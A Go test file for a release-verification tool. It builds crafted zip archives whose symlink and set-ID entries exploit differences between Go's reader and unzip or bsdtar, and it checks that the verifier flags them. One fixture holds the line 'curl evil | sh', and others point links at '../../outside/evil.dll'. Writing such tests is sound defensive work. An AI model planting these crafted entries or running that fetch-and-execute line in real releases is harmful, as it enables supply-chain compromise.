package verify

import (
	"archive/zip"
	"bytes"
	"io/fs"
	"path/filepath"
	"strings"
	"testing"

	"github.com/shipgate/shipgate/internal/walk/walktest"
)

// A zip entry whose external attributes hold a symbolic link's Unix mode
// but whose "version made by" names another host system than Unix (Atari,
// VMS, BeOS, AtheOS) is a file to Go's reader, which reads that mode only
// for Unix and macOS: verify hashed the link's target text as a file and
// passed, while Info-ZIP's unzip makes the link, here to a DLL outside the
// release. It is judged as a link (file/symlink-escape), with a
// file/malformed error saying extractors disagree on it; so is a link made
// on macOS (host 19), which unzip and bsdtar write as a file. Set-ID bits
// unzip -K installs from such an entry are file/setuid. So for MS-DOS
// (host 0, which Windows tools write), where unzip applies the Unix mode
// when its owner bits agree with the DOS attributes.
func TestAttackZipSymlinkOtherHost(t *testing.T) {
	t.Parallel()
	for _, host := range []byte{2, 5, 16, 30} {
		z := walktest.Zip(t, []walktest.ZipEntry{
			{Name: "readme.txt", Data: []byte("hi")},
			{Name: "app/app.dll", Data: []byte("../../outside/evil.dll"), Mode: fs.ModeSymlink | 0o777, Host: host},
		})
		p := writeFile(t, filepath.Join(t.TempDir(), "rel.zip"), z)
		r := mustFail(t, Options{}, "app/app.dll", ruleSymlinkEscape, p)
		if got := findingsOf(r, RuleMalformed); len(got) != 1 || !strings.HasPrefix(got[0], "app/app.dll: ") {
			t.Errorf("host %d: %s findings %q", host, RuleMalformed, got)
		}
	}
	// Go's reader makes a link of a macOS entry; unzip and bsdtar write
	// the file, which holds a script here.
	z := walktest.Zip(t, []walktest.ZipEntry{{Name: "run.command", Data: []byte("#!/bin/sh\ncurl evil | sh\n"), Mode: fs.ModeSymlink | 0o777, Host: 19}})
	mustFail(t, Options{}, "run.command", RuleMalformed, writeFile(t, filepath.Join(t.TempDir(), "rel.zip"), z))
	// A Unix link inside the release is no finding.
	z = walktest.Zip(t, []walktest.ZipEntry{{Name: "a.txt", Data: []byte("a")}, {Name: "b.txt", Data: []byte("a.txt"), Mode: fs.ModeSymlink | 0o777}})
	if r := run(t, Options{}, writeFile(t, filepath.Join(t.TempDir(), "rel.zip"), z)); !r.Summary.Passed {
		t.Errorf("a Unix link inside failed: %v", r.Findings)
	}
	z = walktest.Zip(t, []walktest.ZipEntry{{Name: "bin/tool", Data: []byte("#!/bin/sh\n"), Mode: fs.ModeSetuid | 0o755, Host: 5}})
	mustFail(t, Options{}, "bin/tool", RuleSetuid, writeFile(t, filepath.Join(t.TempDir(), "rel.zip"), z))
	// MS-DOS entries.
	p := writeFile(t, filepath.Join(t.TempDir(), "rel.zip"), zipMadeOnDOS(t, "app/app.dll", 0o120600, "../../outside/evil.dll"))
	mustFail(t, Options{}, "app/app.dll", ruleSymlinkEscape, p)
	mustFail(t, Options{}, "bin/tool", RuleSetuid, writeFile(t, filepath.Join(t.TempDir(), "rel.zip"), zipMadeOnDOS(t, "bin/tool", 0o104655, "#!/bin/sh\n")))
	// Owner bits that disagree with the DOS attributes: unzip ignores
	// the mode.
	if r := run(t, Options{}, writeFile(t, filepath.Join(t.TempDir(), "rel.zip"), zipMadeOnDOS(t, "bin/tool", 0o104755, "#!/bin/sh\n"))); !r.Summary.Passed {
		t.Errorf("a DOS entry whose mode unzip ignores failed: %v", r.Findings)
	}
}

// zipMadeOnDOS returns a zip archive of one entry, name, holding data,
// made on MS-DOS (host 0) with the Unix mode unix in the high 16 bits of
// its external attributes and no DOS attributes.
func zipMadeOnDOS(t *testing.T, name string, unix uint32, data string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	w, err := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store, ExternalAttrs: unix << 16})
	if err != nil {
		t.Fatal(err)
	}
	w.Write([]byte(data))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}
